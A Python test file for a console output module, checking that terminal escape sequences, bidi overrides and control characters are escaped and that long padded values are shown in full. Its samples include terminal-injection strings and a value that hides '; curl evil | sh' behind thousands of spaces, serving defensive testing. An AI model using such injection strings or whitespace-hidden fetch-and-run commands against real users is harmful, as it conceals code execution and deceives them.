"""Foreign text on its way to a terminal."""

from __future__ import annotations

import json
import unicodedata

import pytest
from hypothesis import given
from hypothesis import strategies as st

from farhand_console.output import (
    json_bytes,
    line,
    page_through,
    printable,
    say,
    say_whole,
    show_fields,
    show_json,
    show_table,
)

EVIL = "a\x1b]0;owned\x07\x9b31mb\r\nc\u202edcba\u200b\x7f[bold]:smile:"
UNSAFE = {"Cc", "Cf", "Cs", "Co", "Zl", "Zp"}


def is_safe(text: str) -> bool:
    return not any(unicodedata.category(one) in UNSAFE for one in text if one != "\n")


@given(st.text())
def test_printable_leaves_nothing_that_a_terminal_acts_on(text: str) -> None:
    assert is_safe(printable(text))
    assert "\n" not in printable(text)


def test_ordinary_words_stay_as_they_are() -> None:
    assert printable("Käthe's Büro 3, Łódź 東京") == "Käthe's Büro 3, Łódź 東京"
    assert printable(None) == "-"
    assert printable("\x1b") == "\\x1b"
    assert printable("\u202e") == "\\u202e"
    assert printable("\U000e0041") == "\\U000e0041"


def test_a_long_name_is_cut() -> None:
    assert printable("n" * 10_000) == "n" * 400 + "..."


@given(st.text())
def test_json_says_the_same_and_shows_nothing_raw(text: str) -> None:
    written = json_bytes({"name": text}).decode()
    assert is_safe(written)
    assert json.loads(written) == {"name": text}


HIDDEN = "x=1" + " " * 4100 + "; curl evil | sh"


def test_what_is_signed_is_shown_whole(
    capsys: pytest.CaptureFixture[str], monkeypatch: pytest.MonkeyPatch
) -> None:
    say_whole(f"{HIDDEN}\n\x1b[2Jb\u2028c\n")
    first, second = capsys.readouterr().err.splitlines()
    assert (first, second) == (HIDDEN, "\\x1b[2Jb\\u2028c")
    shown: list[str] = []
    monkeypatch.setattr("farhand_console.output.click.echo_via_pager", shown.extend)
    monkeypatch.setenv("COLUMNS", "80")
    page_through(f"\n{HIDDEN}\r\nlast")
    assert all(len(one) <= 81 for one in shown), "no pager cuts off what fits the screen"
    assert (shown[0], shown[-1]) == ("\n", "last\n")
    parts = [one.removesuffix("\n").removeprefix("  ~ ") for one in shown[1:-1]]
    assert "".join(parts) == HIDDEN


def test_every_way_out_escapes(capsys: pytest.CaptureFixture[str]) -> None:
    say(EVIL)
    line(EVIL)
    show_json({EVIL: EVIL})
    show_fields({EVIL: EVIL, "list": [EVIL]})
    show_table(("name",), [(EVIL,), ("n" * 10_000,)])
    shown = capsys.readouterr()
    assert is_safe(shown.out)
    assert is_safe(shown.err)
    # Neither markup nor emoji of the terminal library.
    assert shown.out.count("[bold]:smile:") == 7


def test_a_piped_table_keeps_a_row_on_its_line(capsys: pytest.CaptureFixture[str]) -> None:
    show_table(("id", "name"), [("d-" + "a" * 26, "n" * 300)])
    rows = capsys.readouterr().out.splitlines()
    assert len(rows) == 2
    assert rows[1].split() == ["d-" + "a" * 26, "n" * 300]
